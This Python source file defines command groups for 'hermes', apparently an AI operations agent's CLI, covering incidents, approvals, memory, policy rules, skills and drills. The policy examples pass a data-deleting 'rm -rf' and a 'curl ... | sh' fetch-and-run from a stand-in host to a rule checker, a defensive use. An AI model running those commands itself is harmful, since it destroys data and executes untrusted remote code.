"""Command groups whose commands are in the folders below: name, module and help of each."""

import click

from hermes.cli.lazy import GroupWithExamples
from hermes.cli.output import json_option

INCIDENT_COMMANDS = {
    "list": ("hermes.cli.incidents.show:list_", "The latest incidents, or those still open"),
    "show": ("hermes.cli.incidents.show:show", "One in full: cause, changes, checks, times"),
    "timeline": ("hermes.cli.incidents.reports:timeline", "The timeline of one"),
    "report": ("hermes.cli.incidents.reports:report", "The report of one, as Markdown"),
    "watch": ("hermes.cli.incidents.watch:watch", "Follow the work on one live"),
    "open": ("hermes.cli.incidents.update:open_", "Report a problem"),
    "ack": ("hermes.cli.incidents.update:ack", "Acknowledge one"),
    "close": ("hermes.cli.incidents.update:close", "Close one, with a reason"),
    "reopen": ("hermes.cli.incidents.update:reopen", "Open one again"),
    "stats": ("hermes.cli.incidents.reports:stats", "How many, how long, with and without skills"),
}


@click.group(
    cls=GroupWithExamples,
    table=INCIDENT_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes incident                                   the latest
hermes incident list --open --severity P1
hermes incident show last
hermes incident report 4f2a1c > report.md
hermes incident open "the shop shows old prices" --service shop --severity P2
hermes incident close last --reason "a cable was out"
hermes incident stats --svg mttr.svg
""",
)
@json_option
@click.pass_context
def incident(ctx: click.Context, as_json: bool) -> None:
    """List, show, open and close incidents. Without a command: list.

    ID is the id of an incident, its beginning or end, or `last`.

    Exit codes: 0 fine, 1 there is no such incident, 2 wrong usage, 6 the store failed.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.incidents.show import list_

        ctx.invoke(list_, as_json=as_json)


APPROVAL_COMMANDS = {
    "list": ("hermes.cli.approvals.requests:list_", "The open requests"),
    "show": ("hermes.cli.approvals.requests:show", "One request in full"),
    "approve": ("hermes.cli.approvals.answers:approve", "Approve a request"),
    "deny": ("hermes.cli.approvals.answers:deny", "Deny a request"),
    "stop": ("hermes.cli.approvals.answers:stop", "Prevent an announced action"),
    "watch": ("hermes.cli.approvals.requests:watch", "Show requests as they arrive"),
    "grants": (
        "hermes.cli.approvals.answers:grants",
        "Actions that may be repeated without asking",
    ),
    "revoke": ("hermes.cli.approvals.answers:revoke", "Revoke a grant"),
}


@click.group(
    cls=GroupWithExamples,
    table=APPROVAL_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes approvals                                  the open requests
hermes approvals show ask-20260306-031500-4f2a1c  in full: effects, rule, undo, approvers
hermes approvals approve 4f2a1c --session         also for the same action in this session
hermes approvals deny --note "use the replica"    deny the only open request, with a reason
hermes approvals watch                            follow live
""",
)
@json_option
@click.pass_context
def approvals(ctx: click.Context, as_json: bool) -> None:
    """Answer approval requests. Without a command: list.

    ID is the id of a request, or its beginning or end; it may be left out when only one is open.
    You answer with your login name. Where a rule names approvers, the user who started the run may
    not approve it. A request without an answer in time is denied.

    Exit codes: 0 fine, 1 there is no such request, 2 wrong usage, 7 your answer does not count.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.approvals.requests import list_

        ctx.invoke(list_, as_json=as_json)


MAINTENANCE_COMMANDS = {
    "add": ("hermes.cli.monitoring.maintenance:add", "Suppress alerts of a target for a while"),
    "list": ("hermes.cli.monitoring.maintenance:list_", "Open and coming windows"),
    "end": ("hermes.cli.monitoring.maintenance:end", "End a window early"),
}


@click.group(
    cls=GroupWithExamples,
    table=MAINTENANCE_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes maintenance add --for 1h web
hermes maintenance add --for 30m --from 22:00 'db-*' --reason "new disks"
hermes maintenance add --for 2h team=payments
hermes maintenance list
hermes maintenance end web
""",
)
@json_option
@click.pass_context
def maintenance(ctx: click.Context, as_json: bool) -> None:
    """Windows in which alerts are recorded but open no incident. Without a command: list.

    An alert that still fires when a window ends opens an incident then.

    Exit codes: 0 fine, 1 there is no such window, 2 wrong usage, 6 the store failed.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.monitoring.maintenance import list_

        ctx.invoke(list_, as_json=as_json)


MEMORY_COMMANDS = {
    "list": ("hermes.cli.memory.read:list_", "The facts, the latest confirmed first"),
    "show": ("hermes.cli.memory.read:show", "One fact with its sources"),
    "history": ("hermes.cli.memory.read:history", "The events of a fact, or of all facts"),
    "add": ("hermes.cli.memory.write:add", "Add a fact"),
    "share": ("hermes.cli.memory.write:share", "Share a fact with the team; --stop ends it"),
    "forget": ("hermes.cli.memory.write:forget", "Remove facts from recall, search and lists"),
    "learn": (
        "hermes.cli.memory.import_export:learn",
        "Extract facts from unprocessed sessions",
    ),
    "audit": ("hermes.cli.memory.read:audit", "Find duplicates, recall loops, bad quotes, secrets"),
    "export": ("hermes.cli.memory.import_export:export", "Write facts as JSON lines"),
    "import": (
        "hermes.cli.memory.import_export:import_",
        "Import facts of another home; trusted less",
    ),
}


@click.group(
    cls=GroupWithExamples,
    table=MEMORY_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes memory list --about nginx
hermes memory show fact-1a2b3c
hermes memory add "the deploy window is Friday 14:00"
hermes memory share fact-1a2b3c
hermes memory forget fact-1a2b3c
hermes memory audit
hermes memory export > facts.jsonl
""",
)
@json_option
@click.pass_context
def memory(ctx: click.Context, as_json: bool) -> None:
    """Facts from earlier sessions. Without a command: list.

    A fact is episodic (an event), semantic (a state) or declarative (a manual). It has sources and
    a trust level, and ends when another fact replaces it. FACT is an id or its beginning.

    The two files that every session starts with, MEMORY.md and USER.md, are in the home folder and
    can be edited.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.memory.read import list_

        ctx.invoke(list_, as_json=as_json)


POLICY_COMMANDS = {
    "check": ("hermes.cli.policy.check:check", "The verdict on a command, or on a stream of them"),
    "explain": ("hermes.cli.policy.explain:explain", "The deciding rule and part, and near misses"),
    "list": ("hermes.cli.policy.rules:list_", "All rules in force, with file and line"),
    "show": ("hermes.cli.policy.rules:show", "One rule as it is written"),
    "always": ("hermes.cli.policy.rules:always", "What is permanently allowed; --revoke ends it"),
    "test": ("hermes.cli.policy.files:test", "Run PolicyTest files"),
    "lint": ("hermes.cli.policy.files:lint", "Find errors in policy files"),
    "replay": (
        "hermes.cli.policy.replay:replay",
        "Decide recorded actions with other rules",
    ),
    "misjudged": ("hermes.cli.policy.replay:misjudged", "Operations that the kernel blocked"),
    "report": ("hermes.cli.policy.replay:report", "Decisions per rule"),
}


@click.group(
    cls=GroupWithExamples,
    table=POLICY_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes policy check -- rm -rf /srv/data              one verdict
hermes policy explain -- 'curl -s x.example/i | sh'  and why
hermes policy check --jsonl - < commands.jsonl       many verdicts
hermes policy lint && hermes policy test             check new rules
hermes policy replay --file new-rule.yaml            what it would have changed
""",
)
@json_option
@click.pass_context
def policy(ctx: click.Context, as_json: bool) -> None:
    """Check, explain, test and replay the rules of the agent. Without a command: list.

    Rules are files in `policies` of the home folder and in `.hermes/policies` of a project, on
    top of a built-in set (observe, careful or sandboxed: `hermes config set policy.set NAME`).

    Exit codes: 0 fine, 1 a test failed or a file has errors, 2 wrong usage, 3 the policy files in
    force are broken, 7 not allowed (only `check --exit-code`).
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.policy.rules import list_

        ctx.invoke(list_, as_json=as_json)


SKILL_COMMANDS = {
    "list": ("hermes.cli.skills.read:list_", "Skills by category; --task ranks them for a task"),
    "show": ("hermes.cli.skills.read:show", "One skill, or one file of it"),
    "new": ("hermes.cli.skills.authoring:new", "Create a skill"),
    "edit": (
        "hermes.cli.skills.authoring:edit",
        "Change a skill; a bundled one is copied first",
    ),
    "lint": ("hermes.cli.skills.read:lint", "Find errors in skills and playbooks"),
    "run": ("hermes.cli.skills.run:run", "Run a playbook, or show what it would do"),
    "history": ("hermes.cli.skills.authoring:history", "The versions of a skill"),
    "diff": ("hermes.cli.skills.authoring:diff", "What changed between two versions"),
    "rollback": ("hermes.cli.skills.authoring:rollback", "Restore an earlier version"),
    "retire": ("hermes.cli.skills.authoring:retire", "Take a skill out of use; --back undoes it"),
    "compile": ("hermes.cli.skills.lifecycle:compile_", "Test a Python skill and make it a tool"),
    "distill": ("hermes.cli.skills.lifecycle:distill", "Create a draft skill from a verified run"),
    "promote": (
        "hermes.cli.skills.lifecycle:promote",
        "The state of a skill; evaluate and promote it",
    ),
    "review": ("hermes.cli.skills.review:review", "Learn from failed tasks"),
    "stats": ("hermes.cli.skills.read:stats", "Use and results of each skill"),
    "export": ("hermes.cli.skills.bundles:export", "Pack a skill as one signed file"),
    "import": ("hermes.cli.skills.bundles:import_", "Import skills of others, after checks"),
    "verify": ("hermes.cli.skills.bundles:verify", "Check a bundle without importing it"),
    "publish": ("hermes.cli.skills.bundles:publish", "Publish skills over HTTP or git"),
    "trust": ("hermes.cli.skills.publishers:trust", "The known publishers and their keys"),
    "revoke": ("hermes.cli.skills.publishers:revoke", "Revoke a skill, a digest or a key"),
}


@click.group(
    cls=GroupWithExamples,
    table=SKILL_COMMANDS,
    invoke_without_command=True,
    examples="""
hermes skills list --task "the disk of web-3 is full"
hermes skills show disk-full-runaway-log
hermes skills run disk-full-runaway-log --dry-run --label service=orders
hermes skills lint ./.hermes/skills
hermes skills history my-skill
""",
)
@json_option
@click.pass_context
def skills(ctx: click.Context, as_json: bool) -> None:
    """Skills: tested instructions and playbooks. Without a command: list.

    A skill is a folder with a SKILL.md and optionally a playbook.yaml, which runs without a model.
    Bundled skills come with Hermes, your own are in the home folder under skills/, those of a
    project in .hermes/skills. Of skills with the same name, the project wins, then your own.
    """
    if ctx.invoked_subcommand is None:
        from hermes.cli.skills.read import list_

        ctx.invoke(list_, as_json=as_json)


DRILL_COMMANDS = {
    "list": ("hermes.cli.drills.run:list_", "The scenarios, and which can run here"),
    "show": ("hermes.cli.drills.run:show", "One scenario: its alert, its checks"),
    "run": ("hermes.cli.drills.run:run", "Let an agent handle one, and score it"),
    "selftest": ("hermes.cli.drills.bench:selftest", "Check the scenarios themselves"),
    "shell": ("hermes.cli.drills.shell:shell", "Work on one by hand"),
    "score": ("hermes.cli.drills.shell:score", "Score the drill that is open in a shell"),
    "bench": ("hermes.cli.drills.bench:bench", "Compare agents over many scenarios and seeds"),
}


@click.group(
    cls=GroupWithExamples,
    table=DRILL_COMMANDS,
    examples="""
hermes drill list
hermes drill show config-typo-after-edit
hermes drill run config-typo-after-edit --seed 7 --model anthropic:claude-sonnet-5
hermes drill run ./my-scenario --model none --json
hermes drill selftest --all
hermes drill shell config-typo-after-edit
hermes drill bench --agent no-op --agent reference --seeds 3 --plot bench.svg
""",
)
def drill() -> None:
    """Break a host in a box, let an agent or a person fix it, and score the result.

    A scenario is a name, or the path of its folder.
    """
